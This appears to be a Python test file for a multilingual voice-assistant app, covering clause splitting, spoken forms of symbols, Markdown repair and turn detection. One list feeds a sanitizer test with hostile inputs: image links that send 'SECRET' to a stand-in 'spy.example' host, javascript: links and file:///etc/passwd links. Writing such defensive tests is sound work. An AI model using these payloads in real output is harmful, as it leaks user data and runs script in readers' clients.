"""Words, clauses, Markdown and the spoken form, in all languages: the same however a stream was cut."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.conversation.languages import CODES, language
from app.conversation.markdown import cut, escaped, for_any_reader, has_markdown, well_formed
from app.conversation.prompt import PERSONA, system_prompt
from app.conversation.reading import reading
from app.conversation.reading.grammar import later_rules
from app.conversation.reading.markup import first_rules
from app.conversation.speaking.clauses import split_clauses, spoken
from app.conversation.speaking.correction import plan_correction
from app.conversation.turns.completeness import completeness, ends_open
from app.conversation.words import LONGEST_PHRASE, WordGatherer, asks_to_wait, fold, is_backchannel, is_echo, same_words
from tests.support.examples import examples
from tests.support.tables import cases

TEXTS = st.text(alphabet=st.sampled_from("abc ,.!?;:é'’5\n"), max_size=80)


@st.composite
def streams(draw: st.DrawFn) -> list[str]:
    text = draw(TEXTS)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@given(streams())
def test_gathered_pieces_are_the_stream_and_never_cut_a_word(deltas: list[str]) -> None:
    gatherer = WordGatherer()
    pieces = [piece for delta in deltas if (piece := gatherer.push(delta))]
    rest = gatherer.flush()
    text = "".join(deltas)
    assert "".join([*pieces, rest]).split() == text.split()
    # Each piece, the last aside, is followed by white space: its words were whole.
    behind = ""
    for piece in pieces:
        behind += piece
        assert text.startswith(behind) and text[len(behind)].isspace()


@given(TEXTS, st.data())
def test_a_clause_once_cut_stays_cut_where_it_is(text: str, data: st.DataObject) -> None:
    # The stream is seen at a word's end, as whole words are all that ever arrives.
    words = text.split()
    part = " ".join(words[: data.draw(st.integers(0, len(words)))])
    early = split_clauses(part, complete=False)
    late = split_clauses(text, complete=True)
    assert late[: len(early)] == early
    assert " ".join(late).split() == words


@cases(
    "text, clauses",
    ("Yes. It is.", ["Yes.", "It is."]),
    (
        "The central dogma of molecular biology is a set of rules that describes how it is done.",
        ["The central dogma of molecular biology", "is a set of rules that describes how it is done."],
    ),
    ("It is 3.5 m, says Dr. Who, of the U.S. Army.", ["It is 3.5 m,", "says Dr. Who, of the U.S. Army."]),
    ("One, two, three and four, then five.", ["One, two, three and four,", "then five."]),
    ("Wait… what?", ["Wait… what?"]),
)
def test_clauses_close_where_a_voice_would_pause(text: str, clauses: list[str]) -> None:
    assert split_clauses(text, complete=True) == clauses


def test_a_long_sentence_without_commas_is_cut_so_that_speech_can_begin() -> None:
    assert [len(c.split()) for c in split_clauses("word " * 60, complete=True)] == [11, 28, 21]


def test_words_compare_without_case_and_punctuation() -> None:
    assert fold("What’s the U.S. doing — at 3.5?") == ("what's", "the", "u.s", "doing", "at", "3.5")
    assert same_words("So, where is it?", "so where is it")
    assert not same_words("So where is it", "So where it is")


@cases("text", "mhm", "Mm-hmm.", "MMMM.", "M.H.M.", "Uh-huh", "Okay, right.", "Yeah, I see", "", "Oh!")
def test_go_on_is_heard_as_go_on(text: str) -> None:
    assert is_backchannel(text)


@pytest.mark.parametrize("text", ["Stop", "No, wait", "Okay but why", "Yes yes yes yes yes", "What?"])
def test_an_interruption_is_no_backchannel(text: str) -> None:
    assert not is_backchannel(text)


@cases(
    "written, said",
    ("17 * 23 = 391.", "17 times 23 equals 391."),
    ("E = mc², roughly.", "E equals mc squared, roughly."),
    ("2^10 is 1,024 and x^2 is a square.", "2 to the power of 10 is 1,024 and x squared is a square."),
    ("8 ÷ 2 = 4, 9 - 4 = 5, 1+1 = 2", "8 divided by 2 equals 4, 9 minus 4 equals 5, 1 plus 1 equals 2"),
    ("It costs $5.50 or €3, at most £2 million.", "It costs 5.50 dollars or 3 euros, at most 2 million pounds."),
    ("50% of them, 3.5 % more", "50 percent of them, 3.5 percent more"),
    ("at 100 °C or 212°F, turn 90°", "at 100 degrees Celsius or 212 degrees Fahrenheit, turn 90 degrees"),
    ("10 km/h for 1/2 an hour over 5 m²", "10 kilometers per hour for one half an hour over 5 square meters"),
    ("Tom & Ann", "Tom and Ann"),
    ("Some fruit, e.g. plums", "Some fruit, for example plums"),
    ("**Yes**, *really*: [here](http://x.y/z)", "Yes, really: here"),
    ("In 1969, 1,234 people saw 3.5 of it at 7:30.", "In 1969, 1,234 people saw 3.5 of it at 7:30."),
    ("A well-known 24-7 thing from 1990-1995", "A well-known 24-7 thing from 1990 to 1995"),
    ("Fine 😀👍🏽.", "Fine."),
    ("and/or, his/her, TCP/IP", "and or, his or her, TCP IP"),
    ("C++ and C# are languages", "C plus plus and C sharp are languages"),
    ("# A heading\nText", "A heading. Text"),
    ("- one\n- `two()`\n+ [three](http://x.y)", "one. two(). three"),
    ("A paragraph\n\nand *another*\n\n1. end", "A paragraph. and another. end"),
    ("So:\n\n```py\nx = 1\n```\n\n> Quoted", "So: The code is on the screen. Quoted"),
    ("![A picture](http://x.y/z.png), $x^2$ and $y$", "A picture, x squared and y"),
)
def test_symbols_become_words(written: str, said: str) -> None:
    assert spoken(written) == said


PIECES = st.sampled_from(
    "the a cat costs $5 $ 5 50% * 17 23 = + - 1/2 km/h ² x^2 °C 100°F & e.g. **bold** (sum) so, then. Well: 3.5 1,234 "
    "in 1969 π √ ≈ it. What? [a](http://b.c) # 1. 2) • end".split()
)


@settings(max_examples=examples(400))
@given(st.lists(PIECES, min_size=2, max_size=40))
def test_a_clause_once_closed_is_said_the_same_however_the_text_grows(words: list[str]) -> None:
    closed: list[str] = []
    for count in range(1, len(words) + 1):
        now = split_clauses(spoken(" ".join(words[:count])), complete=False)
        assert now[: len(closed)] == closed
        closed = now


@pytest.mark.parametrize(
    "text",
    ["**b**", "*i* so", "an _i_", "`x`", "- a", "1. a", "# A", "> q", "[a](b)", "~~no~~", "```\nx\n```", "| a |",
     "https://a.b", r"\(x\)", "so $x^2$", "a\n---\nb"],
)  # fmt: skip
def test_markdown_is_recognised(text: str) -> None:
    assert has_markdown(text)


@pytest.mark.parametrize(
    "text",
    ["Plain words.\n\nAnd a paragraph.", "3 * 4 = 12", "snake_case_name", "It costs $5 or $6.", "Nr. 1 of 2.", "a-b",
     "C# and #1", "x > y", "In 1969. Then"],
)  # fmt: skip
def test_plain_text_is_plain(text: str) -> None:
    assert not has_markdown(text)


@cases(
    "text, end, made",
    ("So **it is** so.", 7, "So **it**"),
    ("So **it *is so* not** so.", 11, "So **it *is***"),
    ("So `x y z` so.", 7, "So `x y`"),
    ("See [the old docs](http://a.b) so.", 8, "See the"),
    ("See [the docs](http://a.b) so.", 26, "See [the docs](http://a.b)"),
    ("2*3 is six.", 3, "2*3"),
    ("So **it is** so.", 12, "So **it is**"),
    ("snake_case is a _word or two_.", 13, "snake_case is"),
    ("An **open\n\nend** of it", 9, "An **open"),
    ("~~gone for~~ good", 6, "~~gone~~"),
    (r"\*no *yes it is*", 9, r"\*no *yes*"),
)
def test_what_a_cut_leaves_open_is_closed(text: str, end: int, made: str) -> None:
    assert cut(text, end) == made


def test_fences_stand_in_lines_of_their_own_and_are_closed() -> None:
    whole = "So:\n\n```py\nx\n```\nThen."
    assert well_formed(whole) == whole
    assert well_formed("So: ```py\nx```\nThen.") == "So:\n\n```py\nx\n```\nThen."
    assert well_formed("So:\n\n```py\nx") == "So:\n\n\n\n```py\nx\n```\n"
    assert well_formed("Plain *text*.") == "Plain *text*."


@pytest.mark.parametrize("text", ["2*3*4", "1. is", "a_b_ [c](d)", "# no", "- no", "<b> & |", "`x` ~~y~~ $z$"])
def test_escaped_text_has_no_markdown(text: str) -> None:
    from PySide6.QtGui import QTextDocument

    shown = QTextDocument()
    shown.setMarkdown(escaped(text), QTextDocument.MarkdownFeature.MarkdownNoHTML)
    assert shown.toPlainText() == text


def test_tags_are_shown_and_code_stays() -> None:
    text = "A <b>tag</b>, `<i>` and ``a ` <u>``.\n\n```html\n<p>\n```\n\n| <hr> |\n|---|\n"
    made = for_any_reader(text)
    assert made == text.replace("<b>", "&lt;b>").replace("</b>", "&lt;/b>").replace("<hr>", "&lt;hr>")


REACHING = [
    "![i](http://spy.example/track.png?d=SECRET)",
    "![x][r]\n\n[r]: http://spy.example/track.png",
    "![r]\n\n[r]: <http://spy.example/track.png> 'title'",
    "![](http://spy.example/a.png)",
    "[![in](http://spy.example/a.png)](http://a.example)",
    "<img src=http://spy.example/a.png>",
    "<IMG\nsrc='http://spy.example/a.png'>",
    "[click](javascript:alert(1)) [f](file:///etc/passwd) [s](smb://spy.example/x) [d](data:text/html,x)",
    "[click]( javascript:alert(1) )",
    "[click](JaVaScRiPt:alert(1))",
    '[click](vbscript:x "title")',
    "[a][b]\n\n[b]: file:///etc/passwd",
    "<file:///etc/passwd> <javascript:x>",
    "![a\nb](http://spy.example/a.png)",
    "\\![i](http://spy.example/a.png)",
    "> ![i](http://spy.example/a.png)\n\n- ![i](http://spy.example/b.png)",
    "| a |\n|---|\n| ![i](http://spy.example/c.png) |",
]


@pytest.mark.parametrize("text", REACHING)
def test_an_exported_answer_does_nothing_by_itself(text: str) -> None:
    """In Qt's reader, there is no picture, and links lead to web pages and mail addresses only."""
    from PySide6.QtGui import QTextDocument

    made = for_any_reader(text)
    assert "<img" not in made.lower() and not re.search(r"(?<!\\)!\[", made), made
    shown = QTextDocument()
    shown.setMarkdown(made)
    page = shown.toHtml()
    assert "<img" not in page
    assert all(re.match("https?:|mailto:", link) for link in re.findall(r'href="([^"]*)"', page)), page


def test_what_is_harmless_is_exported_as_it_is() -> None:
    text = (
        "See [this](https://a.example/x_(y)) and `![i](http://b)`, a! [b](mailto:a@b.example), 2 > 1.\n\n"
        "```\n<b> ![i](x)\n```\n"
    )
    assert for_any_reader(text) == text


@pytest.mark.parametrize(
    "words",
    (
        "What is superposition?|How old is it?|I can't sleep at night. Do you have any advice?|How long does that take?"
        "|If you have just overtaken the second person, what's your current position?"
        "|How far is it from? London to Edinburgh?"
    ).split("|"),
)
def test_a_complete_question_is_one(words: str) -> None:
    assert completeness(words) == "question"


@pytest.mark.parametrize(
    "words",
    (
        "|um|So.|What is the...|What is the capital?|What is the capital of?|Can you explain?|Who wrote?|Should I buy?|"
        "Which planet has the most?|Where can I?|Give me three.|Does anybody know why?|How do I, uh|Is it true that?|"
        "What process?|David has three sisters and|Give me a second"
    ).split("|"),
)
def test_an_open_clause_is_open_whatever_mark_the_recogniser_sets(words: str) -> None:
    assert completeness(words) == "open"


def test_a_statement_may_go_on_a_request_needs_what_it_asks_for_and_a_preposition_is_no_end() -> None:
    assert completeness("My sister is getting married in June.") == "statement"
    assert completeness("My sister is getting married in June. What should I give her for it?") == "question"
    assert completeness("Give me a good name for a black dog.") == "request"
    assert completeness("Tell me a joke.") == "short"
    assert completeness("Please describe the concept.") == "open"
    assert ends_open("What is the capital of?") and ends_open("So, um")
    assert not ends_open("What is the capital of France?") and not ends_open("")


@cases(
    "code, text, asks",
    ("en", "Wait.", True),
    ("en", "Wait, wait, one moment please.", True),
    ("en", "No, stop!", True),
    ("en", "Hold on.", True),
    ("en", "Wait a minute, what is that?", False),
    ("en", "Stop the music.", False),
    ("en", "No.", False),
    ("en", "", False),
    ("de", "Moment mal, bitte warten.", True),
    ("de", "Warte auf mich.", False),
    ("es", "Espera, un momento.", True),
    ("es", "Para mí no.", False),
    ("fr", "Attends une seconde.", True),
    ("it", "Aspetta un attimo, stop.", True),
)
def test_who_asks_the_assistant_to_wait(code: str, text: str, asks: bool) -> None:
    assert asks_to_wait(text, code) is asks


def test_no_phrase_is_longer_than_the_longest() -> None:
    assert max(len(phrase.split()) for code in CODES for phrase in language(code).waits) == LONGEST_PHRASE


@cases(
    "written, said",
    ("Here:\n┌─────┐\n│ box │\n└─────┘\nThat is all.", "Here: box. That is all."),
    ("First.\n──────────\nSecond.\n==========\nThird.\n\n* * *\n\nFourth.", "First. Second. Third. Fourth."),
    ("✅ Done. ⚙️ Restarting.", "Done. Restarting."),
    ("See [[Note-Monday]] for more (it is short).", "See Note-Monday for more (it is short)."),
    ("It is at https://example.org/md，with more. Text follows.", "It is at a link，with more. Text follows."),
    ("Rating: ★★★★☆ (4/5)", "Rating: (4 out of 5)"),
    ("- [ ] Buy milk\n- [x] Call Anna", "Buy milk. Call Anna"),
    ("A note[^1].\n\n[^1]: The source.\n[ref]: https://example.org", "A note. The source."),
    ("<details><summary>More</summary>Hidden</details><br/>H<sub>2</sub>O", "More Hidden H2O"),
    ("<answer>It is Paris.</answer>", "It is Paris."),
    ("Type cd <folder> if x<5 or a > b.", "Type cd folder if x is less than 5 or a is greater than b."),
    ("Salt &amp; pepper,&nbsp;5 &lt; 6", "Salt and pepper, 5 is less than 6"),
)
def test_what_others_have_reported_of_such_apps(written: str, said: str) -> None:
    assert spoken(written) == said


@cases(
    "code, written, said",
    ("de", "Das kostet 5 €, also 20 % mehr.", "Das kostet 5 Euro, also 20 Prozent mehr."),
    ("de", "17 + 25 = 42, z. B. bei 3 °C", "17 plus 25 gleich 42, zum Beispiel bei 3 Grad Celsius"),
    ("de", "Es sind 3.500 km² und 120 km/h.", "Es sind 3.500 Quadratkilometer und 120 Kilometer pro Stunde."),
    ("es", "Cuesta 5 € y sube un 20 %.", "Cuesta 5 euros y sube un 20 por ciento."),
    ("es", "6 × 7 = 42", "6 por 7 es igual a 42"),
    ("fr", "Il fait 20 °C, soit 50 %.", "Il fait 20 degrés Celsius, soit 50 pour cent."),
    ("it", "Costa 5 € & pesa 3 kg", "Costa 5 euro e pesa 3 chilogrammi"),
    ("en", "It costs €5, that is 20% more.", "It costs 5 euros, that is 20 percent more."),
    ("de", "**Fett**, siehe https://a.b/c", "Fett, siehe ein Link"),
    ("de", "3. Oktober 1990.", "3. Oktober 1990."),
    ("de", "Heiligabend: 24. Dezember", "Heiligabend: 24. Dezember"),
    ("de", "Es gibt zwei: 1. Hunde", "Es gibt zwei: Hunde"),
    ("de", "3·10^8 m/s", "3 mal 10 hoch 8 Meter pro Sekunde"),
    ("es", "2^10 = 1024", "2 elevado a 10 es igual a 1024"),
    ("es", "n.° 5", "número 5"),
    ("fr", "n° 5 et 10^3", "numéro 5 et 10 au cube"),
    ("it", "il 1° maggio, 2^10", "il primo maggio, 2 alla 10"),
)
def test_signs_units_and_money_are_said_in_the_answers_language(code: str, written: str, said: str) -> None:
    assert spoken(written, code) == said


def test_a_model_is_asked_in_the_conversations_language_and_keeps_a_persona_of_the_users() -> None:
    assert "auf Deutsch" in system_prompt(PERSONA, code="de") and "You" not in system_prompt(PERSONA, code="de")
    assert system_prompt("Small.", code="es") == language("es").small_persona
    told = system_prompt(PERSONA, "Du bist ein Pirat.", "short", "de")
    assert told.startswith("Du bist ein Pirat. Antworte auf Deutsch.")
    assert told.endswith(language("de").lengths["short"])
    assert system_prompt(PERSONA) == PERSONA and system_prompt("Small.") == "Small."


@cases(
    "code, words, only",
    ("de", "Ja, genau", True),
    ("de", "Nein, warte", False),
    ("es", "ya veo", True),
    ("es", "espera", False),
    ("en", "ja, genau", False),
    ("fr", "d'accord", True),
    ("it", "sì, certo", True),
)
def test_words_that_only_say_go_on_are_those_of_the_language(code: str, words: str, only: bool) -> None:
    assert is_backchannel(words, code) is only


def test_every_language_has_all_that_a_conversation_needs() -> None:
    for code in CODES:
        one = language(code)
        assert one.code == code and len(one.openings) >= 3 and len(one.longer_openings) >= 4
        assert len(one.bridges) == 3 and len(one.backchannels) > 15
        assert set(one.lengths) == {"short", "medium", "long"}
        assert first_rules(code) and later_rules(code)
        assert len(reading(code).months) == 12 and reading(code).units.keys() >= {"km", "kg", "min", "GB"}
    assert language("pl") is language("en"), "there is no module for it"


@cases(
    "code, text, clauses",
    ("de", "Es sind ca. 5 Mio. Menschen. Das ist viel.", ["Es sind ca. 5 Mio. Menschen.", "Das ist viel."]),
    (
        "de",
        "Photosynthese nennt man den Vorgang, bei dem Pflanzen Licht in Zucker verwandeln.",
        ["Photosynthese nennt man den Vorgang,", "bei dem Pflanzen Licht in Zucker verwandeln."],
    ),
    ("es", "Vive en EE. UU. desde 1990. Es médico.", ["Vive en EE. UU. desde 1990.", "Es médico."]),
    ("it", "Sì, lo è. Milano invece no.", ["Sì, lo è.", "Milano invece no."]),
    ("de", "Er sagte: „Das ist gut.“ Danach ging er.", ["Er sagte: „Das ist gut.“", "Danach ging er."]),
    ("fr", "Il a dit «c'est bon.» Puis il est parti.", ["Il a dit «c'est bon.»", "Puis il est parti."]),
    (
        "es",
        "Los planetas del sistema solar giran alrededor del sol en órbitas.",
        ["Los planetas del sistema solar giran alrededor", "del sol en órbitas."],
    ),
    ("de", "Er kam am 12. Mai 1990. Das weiß ich.", ["Er kam am 12. Mai 1990.", "Das weiß ich."]),
    ("fr", "C'est M. Hugo. Il écrit.", ["C'est M. Hugo.", "Il écrit."]),
    ("it", "Lo dice il dott. Rossi. È vero.", ["Lo dice il dott. Rossi.", "È vero."]),
)
def test_clauses_close_as_the_language_has_them(code: str, text: str, clauses: list[str]) -> None:
    assert split_clauses(text, complete=True, code=code) == clauses


@cases(
    "code, said, newer, action",
    ("de", "Es sind sieben Planeten.", "Es sind acht Planeten.", "correct"),
    ("de", "Das ist nicht möglich.", "Das ist möglich.", "correct"),
    ("de", "Stockholm ist die Hauptstadt.", "Die Hauptstadt ist Stockholm. Österreichs ist Wien.", "continue"),
    ("es", "Es posible hoy.", "No es posible hoy.", "correct"),
    ("fr", "Il y a huit planètes.", "Il y a neuf planètes.", "correct"),
    ("de", "Die Heizung ist an.", "Die Heizung ist aus.", "correct"),
    ("de", "Es sind dreißig Tage im Mai.", "Es sind vierzig Tage im Mai.", "correct"),
    ("es", "El vino es muy bueno.", "El vino es muy malo.", "correct"),
    ("it", "Nel museo ci sono duecento quadri.", "Nel museo ci sono trecento quadri.", "correct"),
    ("fr", "La ville importante est Paris.", "Paris est la ville importante. Österreichs est Vienne.", "continue"),
    ("it", "Roma è la capitale.", "La capitale è Roma. È antica.", "continue"),
)
def test_what_contradicts_is_corrected_in_every_language(code: str, said: str, newer: str, action: str) -> None:
    clauses = split_clauses(newer, complete=True, code=code)
    found = plan_correction(said, clauses, complete=True, code=code)
    assert found.action == action
    if action == "correct":
        assert found.bridge == language(code).bridges[0]
    else:
        assert clauses[found.next_clause].startswith(("Österreichs", "È antica"))


def _openings(code: str) -> tuple[str, ...]:
    return language(code).openings + language(code).longer_openings


@pytest.mark.parametrize("code", CODES)
def test_the_app_says_no_command_on_its_own(code: str) -> None:
    said = {word for phrase in (*_openings(code), *language(code).bridges) for word in fold(phrase)}
    known = language(code).commands & said
    assert known <= {"no", "wait", "nein", "warte", "non", "attends", "aspetta", "espera", "hold"}, "in bridges alone"
    assert not language(code).commands & {word for phrase in _openings(code) for word in fold(phrase)}


def test_a_command_of_the_language_is_no_echo() -> None:
    assert is_echo("die Hauptstadt von Schweden", "Das ist die Hauptstadt von Schweden.", "de")
    assert not is_echo("warte mal", "Ich sagte, warte mal.", "de") and is_echo("warte mal", "Er rief warte mal.", "en")
